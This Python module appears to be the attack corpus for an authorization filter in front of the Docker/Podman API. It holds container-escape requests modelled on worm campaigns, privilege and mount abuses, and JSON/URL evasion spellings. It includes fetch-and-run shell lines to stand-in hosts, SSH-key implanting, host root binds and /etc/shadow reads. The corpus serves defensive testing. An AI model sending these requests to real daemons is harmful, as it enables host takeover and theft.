"""Requests that reach for the host, each with where the pattern comes from: what every role but admin must be denied.

Made here after public descriptions: no body is a copy of one that was captured. ``ATTACKS`` is the whole corpus; the
evasions are the same few demands, written in every way in which they have been, or could be, slipped past an inspector.
"""

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from urllib.parse import quote

ROOT_BINDS = ("/:/mnt", "/:/host", "/:/mnt:rw", "/:/hostfs:ro", "/:/mnt:rslave", "//:/mnt", "/./:/mnt", "/../:/m")
ROOTS_HOME = "/root"
SENSITIVE_SOURCES = (
    "/etc",
    ROOTS_HOME,
    f"{ROOTS_HOME}/.ssh",
    "/home",
    "/var/run/docker.sock",
    "/run/docker.sock",
    "/var/run",
    "/run",
    "/run/tidegate.sock",
    "/run/tidegate",
    "/var/lib/tidegate",
    "/var/lib/docker",
    "/proc",
    "/proc/1/root",
    "/proc/sys/kernel",
    "/sys",
    "/sys/fs/cgroup",
    "/sys/kernel/debug",
    "/dev",
    "/dev/sda",
    "/dev/mem",
    "/boot",
    "/lib/modules",
    "/usr",
    "/usr/local/bin",
    "/var/spool/cron",
    "/etc/cron.d",
    "/etc/shadow",
    "/etc/ld.so.preload",
    "/opt",
    "/mnt",
    "/tmp/../",
    "/tmp/../etc",
    "/etc/localtime/../../",
    "/etc/localtime/../shadow",
    "/etc/./localtime/../passwd",
)
CAPABILITIES = (
    "ALL",
    "all",
    "SYS_ADMIN",
    "CAP_SYS_ADMIN",
    "sys_admin",
    "SYS_MODULE",
    "SYS_PTRACE",
    "SYS_RAWIO",
    "SYS_BOOT",
    "DAC_READ_SEARCH",
    "CAP_DAC_READ_SEARCH",
    "BPF",
    "PERFMON",
    "NET_ADMIN",
    "SYSLOG",
    "MAC_ADMIN",
    "CHECKPOINT_RESTORE",
)
SECURITY_OPTIONS = (
    ["seccomp=unconfined"],
    ["seccomp:unconfined"],
    ['seccomp={"defaultAction":"SCMP_ACT_ALLOW"}'],
    ["apparmor=unconfined"],
    ["apparmor:unconfined"],
    ["label=disable"],
    ["label:disable"],
    ["label=type:spc_t"],
    ["systempaths=unconfined"],
    ["no-new-privileges=false"],
    ["no-new-privileges:false"],
    ["writable-cgroups=true"],
    ["no-new-privileges", "seccomp=unconfined"],
)
HOST_MODES: Mapping[str, tuple[str, ...]] = {
    "NetworkMode": ("host", "container:victim"),
    "PidMode": ("host", "container:victim"),
    "IpcMode": ("host", "container:victim"),
    "UTSMode": ("host",),
    "UsernsMode": ("host",),
    "CgroupnsMode": ("host",),
}
DEVICES = ("/dev/sda", "/dev/mem", "/dev/kmsg", "/dev/fuse", "/dev/net/tun", "/dev/kvm", "/dev")
DEVICE_RULES = ("b *:* rwm", "a *:* rwm", "c 1:1 rwm", "b 8:0 rwm")
HOST_SYSCTLS = (
    "kernel.core_pattern",
    "kernel.modprobe",
    "vm.overcommit_memory",
    "fs.suid_dumpable",
    "net.core.bpf_jit",
)
LONG_S, KELVIN = "\u017f", "\u212a"  # Go folds them to s and k


@dataclass(frozen=True, slots=True)
class Attack:
    """One request. The container ``victim`` that some of them name is somebody else's."""

    origin: str
    method: str
    target: str
    body: bytes = b""

    def __str__(self) -> str:
        return f"{self.origin}: {self.method} {self.target[:60]} {self.body[:80]!r}"


def create(origin: str, host_config: Mapping[str, object] | None = None, **config: object) -> Attack:
    """A container create with an innocent image, so that nothing but the demand can be refused."""
    document = {"Image": "alpine", "Cmd": ["sh"], **config}
    if host_config is not None:
        document["HostConfig"] = dict(host_config)
    return Attack(origin, "POST", "/v1.41/containers/create", json.dumps(document).encode())


def raw(origin: str, body: str, target: str = "/v1.41/containers/create") -> Attack:
    """A create whose very spelling is the attack."""
    return Attack(origin, "POST", target, body.encode())


def worms() -> Iterator[Attack]:
    """The campaigns that sweep the net for this API."""
    cron = "echo '* * * * * root wget -qO- http://198.51.100.7/x | sh' >> /etc/crontab"
    for bind in ROOT_BINDS:
        chroot = ["chroot", bind.split(":")[1], "/bin/sh", "-c", cron]
        yield create("honeypot, common body", {"Binds": [bind]}, Cmd=chroot, AttachStdout=True)
    yield create("TeamTNT dockgeddon", {"Binds": ["/:/host"], "Privileged": True, "NetworkMode": "host"}, Tty=True)
    yield create("TeamTNT dockgeddon", {"Privileged": True, "NetworkMode": "host", "PidMode": "host"})
    sh = ["/bin/sh", "-c"]
    metasploit = {"Binds": ["/:/mnt/x"], "Privileged": True, "UsernsMode": "host"}
    yield create("Metasploit docker_daemon_tcp", metasploit, Entrypoint=sh, Cmd=["cp /tmp/p /mnt/x/etc/cron.d/p"])
    yield create("perfctl", {"PidMode": "host", "Privileged": True}, Image="ubuntu", Cmd=["tail", "-f", "/dev/null"])
    yield create("perfctl, no privilege", {"PidMode": "host"}, Image="ubuntu:22.04")
    firewall = ["sh", "-c", "chroot /h iptables -I INPUT -p tcp --dport 2375 -j DROP"]
    yield create("Akamai 2025", {"Binds": ["/:/h:rw"]}, Cmd=firewall)
    yield create("Cetus", {"Binds": ["/:/mnt"], "RestartPolicy": {"Name": "always"}}, Image="ubuntu", Hostname="cache")
    yield create("Kinsing", {"Binds": ["/:/mnt"], "Privileged": True}, Cmd=["sh", "-c", "wget -q -O - x/d.sh | sh"])
    yield create(
        "Kinsing, ssh key", {"Binds": [f"{ROOTS_HOME}/.ssh:/k"]}, Cmd=["sh", "-c", "cat k >> /k/authorized_keys"]
    )
    yield create("Dero", {"Binds": ["/:/rootfs"], "RestartPolicy": {"Name": "always"}}, Image="ubuntu:18.04")
    yield create("SRBMiner", {"Binds": ["/:/mnt"], "NetworkMode": "host"}, Cmd=["chroot", "/mnt", "bash"])
    yield create("Doki", {"Binds": ["/:/x"]}, Image="alpine:curl", Cmd=["sh", "-c", "curl -s 198.51.100.9 | sh"])
    yield create("Graboid", {"Binds": ["/var/run/docker.sock:/var/run/docker.sock"]}, Image="pocosow/centos")
    yield create("WatchDog", {"Privileged": True, "PidMode": "host", "IpcMode": "host"})
    yield create("LemonDuck", {"Binds": ["/:/mnt"], "CapAdd": ["ALL"]})
    yield create("Commando Cat", {"Binds": ["/:/hs"], "Privileged": True}, Image="cmd.cat/chattr")
    yield create("9hits", {"Binds": ["/:/mnt", "/etc:/e"], "NetworkMode": "host"})
    yield create("OracleIV", {"Binds": ["/:/mnt"]}, Image="robbertignacio328832/oracleiv_latest:latest")
    yield create("Gafgyt", {"Binds": ["/:/mnt"]}, Cmd=["chroot", "/mnt", "bash", "-c", "./rbot"])
    yield create("Autom", {"Binds": ["/:/host"]}, Image="alpine:latest", Cmd=["sh", "-c", "autom.sh"])
    yield create("Hildegard", {"PidMode": "host", "CapAdd": ["SYS_PTRACE"]})


def mounts() -> Iterator[Attack]:
    """Every way to say: a path of the host."""
    for source in SENSITIVE_SOURCES:
        yield create("bind of a sensitive path", {"Binds": [f"{source}:/x"]})
        yield create("mount of a sensitive path", {"Mounts": [{"Type": "bind", "Source": source, "Target": "/x"}]})
        options = {"type": "none", "o": "bind", "device": source}
        driver = {"Driver": "local", "DriverOpts": options}
        body = {"Name": "v", **driver}
        yield Attack("local volume that is a bind", "POST", "/volumes/create", json.dumps(body).encode())
        config = {"Name": "local", "Options": options}
        mount = {"Type": "volume", "Source": "v", "Target": "/x", "VolumeOptions": {"DriverConfig": config}}
        yield create("inline volume that is a bind", {"Mounts": [mount]})
    for options in (
        {"type": "nfs", "o": "addr=198.51.100.1,rw", "device": ":/"},
        {"type": "cifs", "o": "addr=198.51.100.1", "device": "//198.51.100.1/c"},
        {"type": "ext4", "device": "/dev/sda1"},
        {"type": "overlay", "o": "lowerdir=/,upperdir=/tmp/u,workdir=/tmp/w", "device": "overlay"},
        {"o": "rbind", "device": "/"},
        {"type": "none", "o": "rw,bind", "device": "/etc"},
        {"type": "none", "o": "BIND", "device": "/"},
        {"type": "proc", "device": "proc"},
        {"type": "sysfs", "device": "sysfs"},
        {"type": "cgroup", "device": "cgroup"},
    ):
        body = {"Name": "v", "DriverOpts": options}
        yield Attack("volume driver options", "POST", "/volumes/create", json.dumps(body).encode())
    for kind in ("cluster", "npipe", "BIND", "Bind", "bind "):
        yield create("mount type", {"Mounts": [{"Type": kind, "Source": "/", "Target": "/x"}]})
    yield create("bind propagation", {"Binds": ["/etc/localtime:/x:ro,rshared"]})
    shared = {"Type": "bind", "Source": "/etc/localtime", "Target": "/x", "BindOptions": {"Propagation": "rshared"}}
    yield create("bind propagation", {"Mounts": [{**shared, "ReadOnly": True}]})
    made = {"Type": "bind", "Source": "/new", "Target": "/x", "BindOptions": {"CreateMountpoint": True}}
    yield create("bind that makes its source", {"Mounts": [made]})
    yield create("bind amid innocent ones", {"Binds": ["data:/data", "/etc/localtime:/t:ro", "/:/x:ro"]})
    yield create("top-level Binds", Binds=["/:/mnt"])
    yield create("volumes of another's container", {"VolumesFrom": ["victim"]})
    yield create("volumes of another's container", {"VolumesFrom": ["victim:rw"]})
    yield create("top-level VolumesFrom", VolumesFrom=["victim"])
    yield create("volume driver", {"VolumeDriver": "rexray", "Binds": ["v:/x"]})
    tmpfs = {"Type": "tmpfs", "Target": "/x", "TmpfsOptions": {"Options": [["dev"], ["suid"], ["exec"]]}}
    yield create("tmpfs with devices", {"Mounts": [tmpfs]})
    yield create("tmpfs with devices", {"Tmpfs": {"/x": "dev,suid,exec"}})
    yield from smuggled_options()


def smuggled_options() -> Iterator[Attack]:
    """Podman writes mounts as lines of options, and reads those (cliOpts in pkg/api/handlers/compat)."""
    localtime = {"Type": "bind", "Source": "/etc/localtime", "ReadOnly": True}
    for mount in (
        {"Type": "volume", "Target": "/x,source=victim"},
        {"Type": "volume", "Target": "/x", "Consistency": "cached,src=victim"},
        {"Type": "volume", "Target": '/x","src=victim'},
        {"Type": "volume", "Source": "own", "Target": "/x", "VolumeOptions": {"Subpath": "a,U=true"}},
        {"Type": "image", "Source": "alpine", "Target": "/x,rw=true"},
        {"Type": "image", "Target": "/x\nsrc=alpine"},
        {"Type": "tmpfs", "Target": "/x,dev,suid"},
        {**localtime, "Target": "/x,src=/"},
        {**localtime, "Target": "/x,ro=false"},
        {**localtime, "Target": "/x", "Consistency": "cached,relabel=private"},
    ):
        yield create("option smuggled into a mount", {"Mounts": [mount]})
    yield create("option smuggled into a tmpfs", {"Tmpfs": {"/x:dev,suid,rshared": ""}})
    yield create("image of a registry that is not allowed", {"Mounts": [{"Type": "image", "Source": "evil.example/i"}]})
    for option in ("z", "Z"):
        yield create("label written on a file of the host", {"Binds": [f"/etc/localtime:/x:ro,{option}"]})
    below = {"BindOptions": {"ReadOnlyNonRecursive": True}}
    yield create("what is mounted below stays writable", {"Mounts": [{**localtime, **below, "Target": "/x"}]})
    yield create("groups of the engine's process", {"GroupAdd": ["keep-groups"]})
    for variable in ("*", "AWS_*"):
        yield create("environment of the engine's process", Env=["A=b", variable])


def confinement() -> Iterator[Attack]:
    """Every way to say: without the walls."""
    yield create("privileged", {"Privileged": True})
    for capability in CAPABILITIES:
        yield create("capability", {"CapAdd": [capability]})
        yield create("capability amid innocent ones", {"CapAdd": ["CHOWN", capability], "CapDrop": ["MKNOD"]})
    yield create("capabilities by their old name", {"Capabilities": ["CAP_SYS_ADMIN"]})
    for options in SECURITY_OPTIONS:
        yield create("security option", {"SecurityOpt": options})
    for field, modes in HOST_MODES.items():
        for mode in modes:
            yield create("namespace of the host or of another", {field: mode})
    for paths in ("MaskedPaths", "ReadonlyPaths"):
        yield create("unmasked paths", {paths: []})
        yield create("unmasked paths", {paths: ["/proc/acpi"]})
    for device in DEVICES:
        entry = {"PathOnHost": device, "PathInContainer": "/dev/x", "CgroupPermissions": "rwm"}
        yield create("device", {"Devices": [entry]})
    for rule in DEVICE_RULES:
        yield create("device cgroup rule", {"DeviceCgroupRules": [rule]})
    yield create("device request", {"DeviceRequests": [{"Driver": "cdi", "DeviceIDs": ["vendor.com/device=all"]}]})
    for sysctl in HOST_SYSCTLS:
        yield create("sysctl of the host", {"Sysctls": {sysctl: "1"}})
    for sysctl in ("net.ipv4.conf/../../../kernel/core_pattern", "net/ipv4/conf/../../kernel.core_pattern"):
        yield create("sysctl that climbs", {"Sysctls": {sysctl: "|/x"}})
    for parent in ("/", "/system.slice", "../..", "docker/../../"):
        yield create("cgroup parent", {"CgroupParent": parent})
    for runtime in ("runc-unconfined", "io.containerd.kata.v2", "/tmp/evil"):
        yield create("runtime", {"Runtime": runtime})
    for driver, options in (
        ("syslog", {"syslog-address": "tcp://198.51.100.1:514"}),
        ("gelf", {"gelf-address": "udp://198.51.100.1:12201"}),
        ("fluentd", {"fluentd-address": "unix:///run/docker.sock"}),
        ("splunk", {"splunk-url": "https://198.51.100.1"}),
    ):
        yield create("log driver that reaches out", {"LogConfig": {"Type": driver, "Config": options}})
    for options in ({"env-file": "/etc/shadow"}, {"path": "/etc/cron.d/x"}):
        yield create("log option", {"LogConfig": {"Type": "json-file", "Config": options}})
    yield create("oom score", {"OomScoreAdj": -1000})
    yield create("annotations for the runtime", {"Annotations": {"run.oci.hooks": "/tmp/h"}})
    yield create("privileged port of the host", {"PortBindings": {"22/tcp": [{"HostPort": "22"}]}})
    yield create("privileged port of the host", {"PortBindings": {"80/tcp": [{"HostIp": "0.0.0.0", "HostPort": "80"}]}})
    for container_port in ("22/tcp:5000", "22/:5000", "22/tcp/*:5000", "x"):
        yield create("privileged port behind a protocol", {"PortBindings": {container_port: [{"HostPort": "22"}]}})


def spellings() -> Iterator[Attack]:
    """One demand, written so that a plain JSON or HTTP reader sees none."""
    create_path = "/v1.41/containers/create"
    bodies = {
        "duplicate key": '{"Image":"a","HostConfig":{"Privileged":false,"Privileged":true}}',
        "duplicate key in another case": '{"Image":"a","HostConfig":{"Privileged":false,"privileged":true}}',
        "duplicate document": '{"Image":"a","HostConfig":{},"hostconfig":{"Privileged":true}}',
        "lower case": '{"image":"a","hostconfig":{"privileged":true}}',
        "upper case": '{"IMAGE":"a","HOSTCONFIG":{"PRIVILEGED":true}}',
        "mixed case": '{"Image":"a","hOsTcOnFiG":{"pRiViLeGeD":true}}',
        "long s in Binds": f'{{"Image":"a","HostConfig":{{"Bind{LONG_S}":["/:/h"]}}}}',
        "long s in HostConfig": f'{{"Image":"a","Ho{LONG_S}tConfig":{{"Binds":["/:/h"]}}}}',
        "kelvin sign in NetworkMode": f'{{"Image":"a","HostConfig":{{"Networ{KELVIN}Mode":"host"}}}}',
        "kelvin sign in MaskedPaths": f'{{"Image":"a","HostConfig":{{"Mas{KELVIN}edPaths":[]}}}}',
        "escaped key": '{"Image":"a","HostConfig":{"\\u0050rivileged":true}}',
        "escaped long s": '{"Image":"a","HostConfig":{"Bind\\u017f":["/:/h"]}}',
        "escaped slash": '{"Image":"a","HostConfig":{"Binds":["\\u002f:\\u002fh"]}}',
        "byte order mark": '\ufeff{"Image":"a","HostConfig":{"Privileged":true}}',
        "second document": '{"Image":"a"}{"HostConfig":{"Privileged":true}}',
        "padding": " " * 200_000 + '{"Image":"a","HostConfig":{"Privileged":true}}',
        "padding in a label": json.dumps({"Labels": {"x": "y" * 300_000}, "HostConfig": {"Privileged": True}}),
        "deep nesting": '{"Image":"a","Labels":' + "[" * 5000 + "]" * 5000 + ',"HostConfig":{"Privileged":true}}',
        "null before": '{"Image":"a","HostConfig":null,"HostConfig":{"Privileged":true}}',
        "array of one": '[{"Image":"a","HostConfig":{"Privileged":true}}]',
        "field nobody knows": '{"Image":"a","HostConfig":{"PrivilegedNew":true}}',
        "bind amid nulls": '{"Image":"a","HostConfig":{"Binds":[null,"/:/h"]}}',
        "nul in the source": '{"Image":"a","HostConfig":{"Binds":["/\\u0000:/h"]}}',
        "dotted source": '{"Image":"a","HostConfig":{"Binds":["/etc/../:/h"]}}',
    }
    for name, body in bodies.items():
        yield raw(f"spelling: {name}", body)
    plain = '{"Image":"a","HostConfig":{"Privileged":true}}'
    for target in (
        "/v1.41/containers/%63reate",
        "/containers/create",
        "/v1.24/containers/create",
        "/v1.99/containers/create",
        "/v1.41//containers/create",
        "/v1.41/./containers/create",
        "/v1.41/containers/../containers/create",
        "//v1.41/containers/create",
        "/v1.41/containers%2fcreate",
        "/v1.41/containers/create/",
        "http://localhost/v1.41/containers/create",
        "/v1.41/v1.41/containers/create",
        f"{create_path}?name=x&name=y",
        f"{create_path}?platform=linux&unknown=1",
        f"{create_path}?name=%zz",
        f"{create_path}?a;b",
    ):
        yield raw("spelling of the target", plain, target)


def side_doors() -> Iterator[Attack]:
    """Other operations that end on the host, or read what is not theirs."""

    def post(origin: str, target: str, document: object = None) -> Attack:
        return Attack(origin, "POST", target, b"" if document is None else json.dumps(document).encode())

    nsenter = ["nsenter", "--mount", "--uts", "--ipc", "--net", "--pid", "-t", "1", "sh"]
    yield post("perfctl, exec", "/containers/victim/exec", {"Cmd": nsenter, "Privileged": True})
    yield post("privileged exec", "/containers/victim/exec", {"Cmd": ["sh"], "privileged": True})
    yield post("exec in another's container", "/containers/victim/exec", {"Cmd": ["sh"], "AttachStdin": True})
    for query in (
        "networkmode=host",
        "networkmode=container:victim",
        "remote=http%3A%2F%2F169.254.169.254%2Flatest",
        "remote=git%40198.51.100.1%3Ax.git",
        "cgroupparent=%2F",
        "extrahosts=a%3A198.51.100.1&networkmode=host",
        "outputs=%5B%7B%22Type%22%3A%22image%22%2C%22Attrs%22%3A%7B%22push%22%3A%22true%22%7D%7D%5D",
        "securityopt=%5B%22seccomp%3Dunconfined%22%5D",
        "privileged=1",
        "volume=/:/host",
        "dockerfile=..%2F..%2Fetc%2Fshadow",
        "dockerfile=%5B%22..%2Fx%22%5D",
        "dockerfile=%5B%22%5Cu002e.%2F%5Cu002e.%2Fetc%2Fshadow%22%5D",
    ):
        yield post("build", f"/v1.41/build?{query}")
    for name in ("from an address inside", "from a file"):
        source = "http://169.254.169.254/latest" if name == "from an address inside" else "file:///etc/shadow"
        yield post(f"import {name}", f"/images/create?fromSrc={quote(source, safe='')}")
    for image in (
        "evil.example/miner:1",
        "198.51.100.7:5000/x",
        "127.0.0.1:5000/x",
        "localhost/x",
        "metadata.internal/x",
    ):
        yield post("pull from a foreign registry", f"/images/create?fromImage={quote(image, safe='')}")
        yield create("image of a foreign registry", Image=image)
    for driver in ("macvlan", "ipvlan", "host", "overlay", "weave"):
        yield post("network driver", "/networks/create", {"Name": "n", "Driver": driver, "Options": {"parent": "eth0"}})
    for options in (
        {"com.docker.network.bridge.name": "docker0"},
        {"com.docker.network.bridge.name": "eth0"},
        {"com.docker.network.bridge.host_binding_ipv4": "0.0.0.0"},
        {"com.docker.network.bridge.inhibit_ipv4": "true"},
        {"com.docker.network.container_iface_prefix": "lo"},
    ):
        yield post("bridge option", "/networks/create", {"Name": "n", "Options": options})
    yield post("subnet of the world", "/networks/create", {"Name": "n", "IPAM": {"Config": [{"Subnet": "8.8.8.0/24"}]}})
    yield post("network from config", "/networks/create", {"Name": "n", "ConfigFrom": {"Network": "host"}})
    yield post("update", "/containers/victim/update", {"Devices": [{"PathOnHost": "/dev/sda"}]})
    yield post("update", "/containers/victim/update", {"CgroupParent": "/"})
    yield post("update", "/containers/victim/update", {"Memory": 0, "DeviceCgroupRules": ["a *:* rwm"]})
    yield post("commit another's container", "/commit?container=victim&repo=x")
    for change in ("VOLUME%20%2F", "ONBUILD%20RUN%20x", "USER%20root"):
        yield post("commit with changes", f"/commit?container=victim&changes={change}")
    for target in (
        "/containers/victim/archive?path=/etc/shadow",
        "/containers/victim/export",
        "/containers/victim/attach/ws?stdin=1",
    ):
        yield Attack("read of another's container", "GET", target)
    yield post("attach to another's container", "/containers/victim/attach?stdin=1&stream=1")
    yield Attack("write into another's container", "PUT", "/containers/victim/archive?path=/", b"tar")
    yield Attack("removal of another's container", "DELETE", "/containers/victim?force=1")
    for action in ("rename?name=x", "resize?h=1&w=1"):
        yield post("act on another's container", f"/containers/victim/{action}")
    yield post("plugin", "/plugins/pull?remote=evil/plugin", [{"Name": "mount", "Value": ["/"]}])
    for action in ("enable", "disable?force=1", "upgrade?remote=evil/plugin", "set", "push"):
        document = ["x=y"] if action == "set" else ([] if action.startswith("upgrade") else None)
        yield post("plugin", f"/plugins/authz/{action}", document)
    yield post("plugin", "/plugins/create?name=evil")
    yield Attack("plugin", "DELETE", "/plugins/authz?force=1")
    yield post("swarm", "/swarm/init", {"ListenAddr": "0.0.0.0:2377", "AdvertiseAddr": "198.51.100.1"})
    yield post("swarm", "/swarm/join", {"RemoteAddrs": ["198.51.100.1:2377"], "JoinToken": "SWMTKN-1-x"})
    yield post("swarm", "/swarm/leave?force=1")
    yield Attack("swarm join tokens", "GET", "/swarm")
    yield Attack("swarm unlock key", "GET", "/swarm/unlockkey")
    task = {"ContainerSpec": {"Image": "alpine", "Mounts": [{"Type": "bind", "Source": "/", "Target": "/h"}]}}
    yield post("service with a bind", "/services/create", {"Name": "s", "TaskTemplate": task})
    yield post("service with a bind", "/services/s/update?version=1", {"Name": "s", "TaskTemplate": task})
    privileges = {"ContainerSpec": {"Image": "alpine", "Privileges": {"Seccomp": {"Mode": "unconfined"}}}}
    yield post("service without seccomp", "/services/create", {"Name": "s", "TaskTemplate": privileges})
    yield post("service", "/services/create", {"Name": "s", "TaskTemplate": {"ContainerSpec": {"Image": "alpine"}}})
    yield Attack("service", "DELETE", "/services/s")
    yield post("node", "/nodes/n/update?version=1", {"Role": "manager", "Availability": "active"})
    yield Attack("node", "DELETE", "/nodes/n?force=1")
    yield post("secret", "/secrets/create", {"Name": "s", "Data": "eA==", "Driver": {"Name": "evil"}})
    yield post("config", "/configs/create", {"Name": "c", "Data": "eA=="})
    yield Attack("secret", "DELETE", "/secrets/s")
    yield post("checkpoint to a path of the host", "/containers/victim/start?checkpoint=c&checkpoint-dir=%2Fetc")
    yield post("gRPC of BuildKit", "/grpc")
    yield Attack("h2c preface", "PRI", "*")


ATTACKS: tuple[Attack, ...] = (*worms(), *mounts(), *confinement(), *spellings(), *side_doors())
